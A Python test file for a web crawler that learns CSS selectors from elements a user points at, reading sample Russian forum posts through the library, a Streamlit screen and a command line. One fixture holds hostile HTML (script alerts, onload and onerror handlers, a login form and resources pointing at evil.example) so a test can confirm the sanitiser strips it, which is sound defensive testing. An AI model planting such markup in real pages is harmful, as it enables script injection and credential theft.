"""Pointing at a page: what is shown of it cannot act, and what is pointed at becomes selectors that read all posts."""

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from crawlers import teaching
from crawlers.parsers.page import Page, tree_of
from crawlers.parsers.threads import dumps, loads, read_thread
from crawlers.pointing import SHOWN, Mark, copied, described, pointable, taught
from crawlers.reading_commands import extract
from storage.errors import Refused
from storage.tables import Source
from storage.vocabulary import Role
from tests.builders import a_brand, a_person

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
PAGE = Page(url="https://site.example/t/1", read_at=NOW)
HOME = Path(__file__).resolve().parents[2] / "home.py"
HOSTILE = """<html><head><script>alert(1)</script><style>@import 'https://evil.example/x.css'</style></head>
<body onload="steal()"><form action="https://evil.example"><input name="p"><button>Войти</button></form>
<img src="https://evil.example/pixel.png" onerror="steal()"><iframe src="https://evil.example"></iframe>
<svg><script>alert(2)</script></svg><a href="javascript:steal()">ссылка</a><object data="x"></object>
<p style="background:url(https://evil.example)">Текст &lt;img src=x onerror=alert(3)&gt;</p></body></html>"""
ENTRY = """<div class="entry e{0}" id="m1{0}">
<div class="meta"><a class="who" href="/u/{0}">{1}</a><span>{2}</span></div>
<div class="say">{3}</div></div>"""
ENTRIES = "".join([
    ENTRY.format(1, "Мария", "9 марта 2026, 10:15", "<p>Деньги висят вторые сутки.</p><p>Что делать?</p>"),
    ENTRY.format(2, "Игорь", "9 марта 2026, 11:02", "<blockquote>Деньги висят</blockquote><p>Идите в отделение.</p>"),
    ENTRY.format(3, "Ольга", "10 марта 2026, 08:05", "<p>Спасибо, помогло.</p>"),
])  # fmt: skip
TALK = f"""<html><head><title>Разговор</title></head><body><h1 class="t7 heading">Перевод завис</h1>
<div class="feed">{ENTRIES}</div><p class="nav"><a class="fwd" href="/t/1?p=2"><b>дальше</b></a></p></body></html>"""


def number_of(tree, path):
    return pointable(tree).index(tree.xpath(path)[0])


def tags_of(copy):
    yield copy[0]
    for part in copy[2:]:
        if isinstance(part, list):
            yield from tags_of(part)


def test_what_is_shown_of_a_hostile_page_is_tags_numbers_and_text():
    copy = copied(tree_of(HOSTILE.encode(), PAGE))
    assert set(tags_of(copy)) <= SHOWN | {"br"}
    told = json.dumps(copy, ensure_ascii=False)
    assert not any(word in told for word in ("evil", "steal", "javascript", "alert(1)", "alert(2)", "Войти"))
    assert "Текст <img src=x onerror=alert(3)>" in told, "text stays text"


def test_a_very_large_or_deep_page_is_cut():
    assert len(json.dumps(copied(tree_of(b"<p>x</p>" * 20_000, PAGE)))) < 200_000
    copied(tree_of(b"<div>" * 200 + b"x", PAGE))


def test_three_clicks_read_every_post_of_the_page():
    tree = tree_of(TALK.encode(), PAGE)
    marks = {
        Mark.TEXT: number_of(tree, "//div[@id='m12']/div[@class='say']"),
        Mark.AUTHOR: number_of(tree, "//div[@id='m12']//a"),
        Mark.DATE: number_of(tree, "//div[@id='m12']//span"),
        Mark.TITLE: number_of(tree, "//h1"),
        Mark.NEXT: number_of(tree, "//a[@class='fwd']/b"),
    }
    profile = taught(tree, marks, name="Разговор")
    assert (profile.post, profile.text, profile.author) == (("div.entry",), ("div.say",), ("a.who",))
    read = read_thread(TALK.encode(), PAGE, profile)
    assert [(one.external_id, one.author) for one in read.findings] == [
        ("p11", "Мария"), ("p12", "Игорь"), ("p13", "Ольга"),
    ]  # fmt: skip
    assert [one.published_at.day for one in read.findings] == [9, 9, 10]
    assert read.findings[1].text == "Идите в отделение."
    assert (read.title, read.next_url) == ("Перевод завис", "https://site.example/t/1?p=2")
    assert described(tree, marks[Mark.TEXT]) == "Деньги висят Идите в отделение."
    assert loads(dumps(profile)) == profile


def test_posts_without_names_or_numbers_are_found_by_their_place():
    rows = "".join(f"<li><p>{name}</p><p>{text}</p></li>" for name, text in [("А", "Первый"), ("Б", "Второй")])
    body = f"<html><body><ul><li>Меню</li></ul><ol class=talk>{rows}</ol></body></html>".encode()
    tree = tree_of(body, PAGE)
    marks = {Mark.TEXT: number_of(tree, "//ol/li[1]/p[2]"), Mark.AUTHOR: number_of(tree, "//ol/li[1]/p[1]")}
    read = read_thread(body, PAGE, taught(tree, marks, name="x"))
    assert [(one.author, one.text) for one in read.findings] == [("А", "Первый"), ("Б", "Второй")]


def test_without_a_text_there_is_no_profile():
    tree = tree_of(TALK.encode(), PAGE)
    with pytest.raises(Refused, match="text"):
        taught(tree, {Mark.AUTHOR: 5}, name="x")
    with pytest.raises(Refused, match="text"):
        taught(tree, {Mark.TEXT: 10_000}, name="x")


@pytest.fixture
def database_url(tmp_path, make_database):
    return make_database("sqlite", tmp_path)


def test_a_taught_page_is_shown_as_it_would_be_stored_and_becomes_a_source(database, sign_in_as, site):
    with database.transaction() as session:
        person = a_person(session, Role.ADMINISTRATOR)
        a_brand(session, name="Причал")
    sign_in_as(person)
    site.pages["/t/1"] = TALK
    screen = AppTest.from_file(HOME, default_timeout=60)
    screen.switch_page("crawlers/screens/sources.py")
    screen.run()
    next(one for one in screen.text_input if one.label == "Address of a page with texts").set_value(f"{site.url}/t/1")
    screen.checkbox(key="teach-local").check()
    next(one for one in screen.button if one.label == "Open the page").click().run()
    assert not screen.exception
    assert not screen.error
    tree = screen.session_state["lesson"].tree
    screen.session_state["lesson_marks"] = {Mark.TEXT: number_of(tree, "//div[@id='m11']/div[@class='say']")}
    screen.run()
    shown = "\n".join(one.value for one in screen.text)
    assert "Деньги висят вторые сутки." in shown
    assert "Спасибо, помогло." in shown
    next(one for one in screen.button if one.label == "Add as a source").click().run()
    assert not screen.exception
    with database.transaction() as session:
        source = session.scalars(select(Source)).one()
        session.expunge(source)
    assert (source.kind, source.address, source.options["extent"]) == ("site", f"{site.url}/t/1", "page")
    profile = loads(source.options["profile"])
    assert len(teaching.found(teaching.opened(source.address, is_local=True, now=NOW), profile)) == 3


def test_an_exported_profile_reads_a_file_from_the_command_line(tmp_path):
    tree = tree_of(TALK.encode(), PAGE)
    marks = {Mark.TEXT: number_of(tree, "//div[@id='m11']/div[@class='say']")}
    (tmp_path / "talk.toml").write_text(dumps(taught(tree, marks, name="Разговор")), "utf-8")
    (tmp_path / "talk.html").write_text(TALK, "utf-8")
    asked = [str(tmp_path / "talk.html"), "--profile", str(tmp_path / "talk.toml"), "--json"]
    told = CliRunner().invoke(extract, asked)
    assert told.exit_code == 0, told.output
    assert [one["text"] for one in json.loads(told.output)["findings"]][2] == "Спасибо, помогло."
